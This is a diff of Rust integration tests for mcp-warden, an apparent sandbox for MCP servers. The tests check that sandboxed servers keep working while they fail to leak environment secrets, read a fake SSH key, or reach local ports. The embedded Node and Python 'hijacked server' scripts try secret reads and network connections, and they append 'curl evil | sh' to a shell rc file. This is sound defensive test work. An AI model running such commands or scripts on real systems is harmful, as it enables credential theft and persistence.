@@ -51,112 +51,99 @@ fn session(who: Who, tool: &str, arguments: &str, warden_args: &[&str], env: &[(
     }
 }
 
-#[test]
-fn node_everything_server_works_and_cannot_leak_the_environment() {
+per_identity!(node_everything_server_works_and_cannot_leak_the_environment, |who: Who| {
     let server = need(node_dir().join("node_modules/@modelcontextprotocol/server-everything/dist/index.js"));
     let node = node_dir();
-    for who in Who::all() {
-        let args = [
-            "run",
-            "--profile",
-            "strict",
-            "--allow-read",
-            node.to_str().unwrap(),
-            "--",
-            "node",
-            server.to_str().unwrap(),
-            "stdio",
-        ];
-        let s = session(who, "echo", r#"{"message": "hello from the sandbox"}"#, &args, &[]);
-        assert_eq!(s.server, "mcp-servers/everything");
-        assert!(s.tools.contains(&"echo".to_string()) && s.tools.contains(&"get-env".to_string()), "{:?}", s.tools);
-        assert!(!s.is_error);
-        assert_eq!(s.text, "Echo: hello from the sandbox");
+    let args = [
+        "run",
+        "--profile",
+        "strict",
+        "--allow-read",
+        node.to_str().unwrap(),
+        "--",
+        "node",
+        server.to_str().unwrap(),
+        "stdio",
+    ];
+    let s = session(who, "echo", r#"{"message": "hello from the sandbox"}"#, &args, &[]);
+    assert_eq!(s.server, "mcp-servers/everything");
+    assert!(s.tools.contains(&"echo".to_string()) && s.tools.contains(&"get-env".to_string()), "{:?}", s.tools);
+    assert!(!s.is_error);
+    assert_eq!(s.text, "Echo: hello from the sandbox");
 
-        // The server's own get-env tool dumps its environment: a prompt-injected call gets
-        // nothing the profile did not pass.
-        let secrets = [("OPENAI_API_KEY", "sk-test-secret"), ("AWS_SECRET_ACCESS_KEY", "aws-test-secret")];
-        let s = session(who, "get-env", "{}", &args, &secrets);
-        assert!(!s.is_error, "{}", s.text);
-        assert!(s.text.contains("\"PATH\""), "the tool works: {}", s.text);
-        assert!(
-            !s.text.contains("sk-test-secret") && !s.text.contains("aws-test-secret"),
-            "secrets leaked: {}",
-            s.text
-        );
-    }
-}
+    // The server's own get-env tool dumps its environment: a prompt-injected call gets
+    // nothing the profile did not pass.
+    let secrets = [("OPENAI_API_KEY", "sk-test-secret"), ("AWS_SECRET_ACCESS_KEY", "aws-test-secret")];
+    let s = session(who, "get-env", "{}", &args, &secrets);
+    assert!(!s.is_error, "{}", s.text);
+    assert!(s.text.contains("\"PATH\""), "the tool works: {}", s.text);
+    assert!(!s.text.contains("sk-test-secret") && !s.text.contains("aws-test-secret"), "secrets leaked: {}", s.text);
+});
 
-#[test]
-fn node_filesystem_server_works_on_its_directory_only() {
+per_identity!(node_filesystem_server_works_on_its_directory_only, |who: Who| {
     let server = need(node_dir().join("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"));
     let node = node_dir();
-    for who in Who::all() {
-        let s = Scratch::new(who);
-        let notes = s.mkdir("notes", who);
-        s.file("notes/todo.md", "- ship it\n", who);
-        let args = [
-            "run",
-            "--profile",
-            "strict",
-            "--allow-read",
-            node.to_str().unwrap(),
-            "--allow-write",
-            notes.to_str().unwrap(),
-            "--",
-            "node",
-            server.to_str().unwrap(),
-            notes.to_str().unwrap(),
-        ];
-        let path = notes.join("todo.md");
-        let r = session(who, "read_text_file", &format!(r#"{{"path": "{}"}}"#, path.display()), &args, &[]);
-        assert_eq!(r.server, "secure-filesystem-server");
-        assert!(!r.is_error && r.text == "- ship it\n", "{}", r.text);
-        let w = session(
-            who,
-            "write_file",
-            &format!(r#"{{"path": "{}", "content": "written"}}"#, notes.join("new.md").display()),
-            &args,
-            &[],
-        );
-        assert!(!w.is_error, "{}", w.text);
-        assert_eq!(std::fs::read_to_string(notes.join("new.md")).unwrap(), "written");
-    }
-}
+    let s = Scratch::new(who);
+    let notes = s.mkdir("notes", who);
+    s.file("notes/todo.md", "- ship it\n", who);
+    let args = [
+        "run",
+        "--profile",
+        "strict",
+        "--allow-read",
+        node.to_str().unwrap(),
+        "--allow-write",
+        notes.to_str().unwrap(),
+        "--",
+        "node",
+        server.to_str().unwrap(),
+        notes.to_str().unwrap(),
+    ];
+    let path = notes.join("todo.md");
+    let r = session(who, "read_text_file", &format!(r#"{{"path": "{}"}}"#, path.display()), &args, &[]);
+    assert_eq!(r.server, "secure-filesystem-server");
+    assert!(!r.is_error && r.text == "- ship it\n", "{}", r.text);
+    let w = session(
+        who,
+        "write_file",
+        &format!(r#"{{"path": "{}", "content": "written"}}"#, notes.join("new.md").display()),
+        &args,
+        &[],
+    );
+    assert!(!w.is_error, "{}", w.text);
+    assert_eq!(std::fs::read_to_string(notes.join("new.md")).unwrap(), "written");
+});
 
-#[test]
-fn python_time_server_works() {
-    for who in Who::all() {
-        let venv = need(test_env().join("venv"));
-        let python = venv.join("bin/python");
-        let args = [
-            "run",
-            "--profile",
-            "strict",
-            "--allow-read",
-            venv.to_str().unwrap(),
-            "--",
-            python.to_str().unwrap(),
-            "-m",
-            "mcp_server_time",
-        ];
-        let s = session(who, "get_current_time", r#"{"timezone": "Europe/Paris"}"#, &args, &[]);
-        assert_eq!(s.server, "mcp-time");
-        assert_eq!(s.tools, vec!["convert_time".to_string(), "get_current_time".to_string()]);
-        assert!(!s.is_error, "{}", s.text);
-        assert!(s.text.contains("\"timezone\": \"Europe/Paris\""), "{}", s.text);
-    }
-}
-
-/// A deliberately malicious MCP server (tests/clients/malicious_server.py): every tool a
-/// prompt injection could call, under `strict` plus what a real server needs. Nothing gets out,
-/// and the server keeps answering.
-#[test]
-fn a_malicious_server_gets_nothing_out_and_keeps_answering() {
+per_identity!(python_time_server_works, |who: Who| {
     let venv = need(test_env().join("venv"));
-    let clients = need(test_env().join("clients"));
     let python = venv.join("bin/python");
-    for who in Who::all() {
+    let args = [
+        "run",
+        "--profile",
+        "strict",
+        "--allow-read",
+        venv.to_str().unwrap(),
+        "--",
+        python.to_str().unwrap(),
+        "-m",
+        "mcp_server_time",
+    ];
+    let s = session(who, "get_current_time", r#"{"timezone": "Europe/Paris"}"#, &args, &[]);
+    assert_eq!(s.server, "mcp-time");
+    assert_eq!(s.tools, vec!["convert_time".to_string(), "get_current_time".to_string()]);
+    assert!(!s.is_error, "{}", s.text);
+    assert!(s.text.contains("\"timezone\": \"Europe/Paris\""), "{}", s.text);
+});
+
+per_identity!(
+    /// A deliberately malicious MCP server (tests/clients/malicious_server.py): every tool a
+    /// prompt injection could call, under `strict` plus what a real server needs. Nothing gets out,
+    /// and the server keeps answering.
+    a_malicious_server_gets_nothing_out_and_keeps_answering,
+    |who: Who| {
+        let venv = need(test_env().join("venv"));
+        let clients = need(test_env().join("clients"));
+        let python = venv.join("bin/python");
         let s = Scratch::new(who);
         let secret = s.file("id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY----- s3cr3t-key-material", who);
         let bashrc = s.file("bashrc", "# rc\n", who);
@@ -216,17 +203,17 @@ fn a_malicious_server_gets_nothing_out_and_keeps_answering() {
         // control: the same tools work where granted
         let _ = tcp;
     }
-}
+);
 
-/// The shipped profiles grant a server's own installation and its arguments by themselves: no
-/// hand-written path on the command line.
-#[test]
-fn shipped_profiles_run_their_servers_without_hand_written_paths() {
-    let node = node_dir();
-    let everything = need(node.join("node_modules/@modelcontextprotocol/server-everything/dist/index.js"));
-    let filesystem = need(node.join("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"));
-    let python = need(test_env().join("venv/bin/python"));
-    for who in Who::all() {
+per_identity!(
+    /// The shipped profiles grant a server's own installation and its arguments by themselves: no
+    /// hand-written path on the command line.
+    shipped_profiles_run_their_servers_without_hand_written_paths,
+    |who: Who| {
+        let node = node_dir();
+        let everything = need(node.join("node_modules/@modelcontextprotocol/server-everything/dist/index.js"));
+        let filesystem = need(node.join("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"));
+        let python = need(test_env().join("venv/bin/python"));
         let s = session(
             who,
             "echo",
@@ -265,18 +252,18 @@ fn shipped_profiles_run_their_servers_without_hand_written_paths() {
         );
         assert!(!t.is_error && t.text.contains("\"timezone\": \"UTC\""), "{}", t.text);
     }
-}
+);
 
-/// The other shipped server profiles with their real servers, and one abuse each where the
-/// server's tools give one: git pointed at a repository it was not given, SQLite attaching a
-/// database file outside its directory.
-#[test]
-fn memory_sequential_thinking_git_and_sqlite_run_under_their_profiles() {
-    let node = node_dir();
-    let memory = need(node.join("node_modules/@modelcontextprotocol/server-memory/dist/index.js"));
-    let thinking = need(node.join("node_modules/@modelcontextprotocol/server-sequential-thinking/dist/index.js"));
-    let venv = need(test_env().join("venv"));
-    for who in Who::all() {
+per_identity!(
+    /// The other shipped server profiles with their real servers, and one abuse each where the
+    /// server's tools give one: git pointed at a repository it was not given, SQLite attaching a
+    /// database file outside its directory.
+    memory_sequential_thinking_git_and_sqlite_run_under_their_profiles,
+    |who: Who| {
+        let node = node_dir();
+        let memory = need(node.join("node_modules/@modelcontextprotocol/server-memory/dist/index.js"));
+        let thinking = need(node.join("node_modules/@modelcontextprotocol/server-sequential-thinking/dist/index.js"));
+        let venv = need(test_env().join("venv"));
         let s = Scratch::new(who);
 
         s.mkdir("memory", who);
@@ -325,7 +312,7 @@ fn memory_sequential_thinking_git_and_sqlite_run_under_their_profiles() {
         );
         let _ = dbdir;
     }
-}
+);
 
 /// A process that is killed when the test ends, however it ends.
 struct Background(std::process::Child);
@@ -575,16 +562,16 @@ const tryc = (host, port) => new Promise(r => {
     drop(other);
 }
 
-/// `npx -y PACKAGE` and `uvx PACKAGE`, installed once (by `cargo xtask setup`, into caches of the
-/// test environment), run hardened without npm, uv or the network: mcp-warden runs the installed
-/// copy directly. A package that was never installed is refused with the install-phase hint.
-#[test]
-fn npx_and_uvx_servers_run_from_their_installed_copies() {
-    let env_dir = test_env();
-    let npm_cache = need(env_dir.join("npm-cache"));
-    let uv_cache = need(env_dir.join("uv-cache"));
-    let caches = [("npm_config_cache", npm_cache.to_str().unwrap()), ("UV_CACHE_DIR", uv_cache.to_str().unwrap())];
-    for who in Who::all() {
+per_identity!(
+    /// `npx -y PACKAGE` and `uvx PACKAGE`, installed once (by `cargo xtask setup`, into caches of the
+    /// test environment), run hardened without npm, uv or the network: mcp-warden runs the installed
+    /// copy directly. A package that was never installed is refused with the install-phase hint.
+    npx_and_uvx_servers_run_from_their_installed_copies,
+    |who: Who| {
+        let env_dir = test_env();
+        let npm_cache = need(env_dir.join("npm-cache"));
+        let uv_cache = need(env_dir.join("uv-cache"));
+        let caches = [("npm_config_cache", npm_cache.to_str().unwrap()), ("UV_CACHE_DIR", uv_cache.to_str().unwrap())];
         let step = r#"{"thought": "t", "nextThoughtNeeded": false, "thoughtNumber": 1, "totalThoughts": 1}"#;
         let args = [
             "run",
@@ -601,39 +588,41 @@ fn npx_and_uvx_servers_run_from_their_installed_copies() {
         let args = ["run", "--profile", "time", "--", "uvx", "mcp-server-time==2026.10.19"];
         let t = session(who, "get_current_time", r#"{"timezone": "Asia/Tokyo"}"#, &args, &caches);
         assert!(!t.is_error && t.text.contains("Asia/Tokyo"), "{who:?}: {}\n{}", t.text, t.stderr);
+        let mut c = warden_as(
+            Who::current(),
+            &[
+                "run".as_ref(),
+                "--profile".as_ref(),
+                "memory".as_ref(),
+                "--".as_ref(),
+                "npx".as_ref(),
+                "-y".as_ref(),
+                "@modelcontextprotocol/server-memory@1.0.0".as_ref(),
+            ],
+        );
+        c.env("npm_config_cache", &npm_cache);
+        let o = run(c, None, Duration::from_secs(30));
+        assert_eq!(o.code(), Some(125), "{}", o.describe());
+        assert!(
+            o.stderr.contains("is not installed in the npx cache")
+                && o.stderr.contains("hint: install the package once"),
+            "{}",
+            o.describe()
+        );
     }
-    let mut c = warden_as(
-        Who::current(),
-        &[
-            "run".as_ref(),
-            "--profile".as_ref(),
-            "memory".as_ref(),
-            "--".as_ref(),
-            "npx".as_ref(),
-            "-y".as_ref(),
-            "@modelcontextprotocol/server-memory@1.0.0".as_ref(),
-        ],
-    );
-    c.env("npm_config_cache", &npm_cache);
-    let o = run(c, None, Duration::from_secs(30));
-    assert_eq!(o.code(), Some(125), "{}", o.describe());
-    assert!(
-        o.stderr.contains("is not installed in the npx cache") && o.stderr.contains("hint: install the package once"),
-        "{}",
-        o.describe()
-    );
-}
+);
 
 /// (profile, runtime, extra server arguments that carry the profile's grants, environment)
 type Case<'a> = (&'a str, &'a str, Vec<&'a str>, Vec<(&'a str, &'a str)>);
 
-/// What a hijacked server could do under each shipped profile: the same attacks (read a secret
-/// the user can read, append to a shell rc file, reach a local service) from inside the runtime
-/// each profile is for, started exactly as its server would be. Every one fails; the control,
-/// reading the profile's own grant, succeeds.
-#[test]
-fn every_shipped_profile_contains_a_hijacked_server() {
-    let node_attack = r#"
+per_identity!(
+    /// What a hijacked server could do under each shipped profile: the same attacks (read a secret
+    /// the user can read, append to a shell rc file, reach a local service) from inside the runtime
+    /// each profile is for, started exactly as its server would be. Every one fails; the control,
+    /// reading the profile's own grant, succeeds.
+    every_shipped_profile_contains_a_hijacked_server,
+    |who: Who| {
+        let node_attack = r#"
 const fs = require('fs'), net = require('net');
 const [secret, rc, port, own] = process.argv.slice(2);
 const t = (name, f) => { try { f(); console.log(name + ' ALLOWED'); } catch (e) { console.log(name + ' ' + e.code); } };
@@ -644,7 +633,7 @@ const s = net.connect({ host: '127.0.0.1', port: +port });
 s.on('connect', () => { console.log('net ALLOWED'); process.exit(0); });
 s.on('error', e => { console.log('net ' + e.code); process.exit(0); });
 "#;
-    let py_attack = r#"
+        let py_attack = r#"
 import socket, sys
 secret, rc, port, own = sys.argv[1:5]
 def t(name, f):
@@ -657,10 +646,9 @@ t("secret", lambda: open(secret).read())
 t("rc", lambda: open(rc, "a").write("curl evil | sh\n"))
 t("net", lambda: socket.create_connection(("127.0.0.1", int(port)), timeout=5))
 "#;
-    let python = need(test_env().join("venv/bin/python"));
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port().to_string();
-    for who in Who::all() {
+        let python = need(test_env().join("venv/bin/python"));
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port().to_string();
         let s = Scratch::new(who);
         let code = s.mkdir("code", who);
         let node_js = s.file("code/attack.js", node_attack, who);
@@ -708,9 +696,9 @@ t("net", lambda: socket.create_connection(("127.0.0.1", int(port)), timeout=5))
                 assert!(!line.ends_with("ALLOWED"), "{who:?} {profile}: {line}\n{}", o.describe());
             }
         }
+        drop(listener);
     }
-    drop(listener);
-}
+);
 
 /// `mcp-warden wrap`: preview, write with a backup, idempotence, undo; and the wrapped entry
 /// starts its real server under the recognised profile.
